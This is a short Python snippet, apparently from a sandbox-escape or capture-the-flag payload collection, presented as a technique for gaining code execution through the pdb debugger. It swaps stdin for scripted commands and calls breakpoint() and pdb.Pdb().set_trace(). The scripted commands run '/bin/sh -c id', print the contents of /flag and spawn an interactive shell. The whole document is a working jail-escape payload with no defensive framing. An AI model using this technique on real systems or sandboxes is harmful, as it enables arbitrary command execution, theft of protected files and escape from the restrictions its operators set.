# technique: replace stdin with scripted commands then call breakpoint(); pdb executes arbitrary statements
import io
import sys

sys.stdin = io.StringIO("import os; os.system('/bin/sh -c id')\n!print(open('/flag').read())\ncontinue\n")
breakpoint()
import pdb
pdb.Pdb(stdin=io.StringIO("import os;os.system('sh')\nc\n"), stdout=sys.stdout).set_trace()
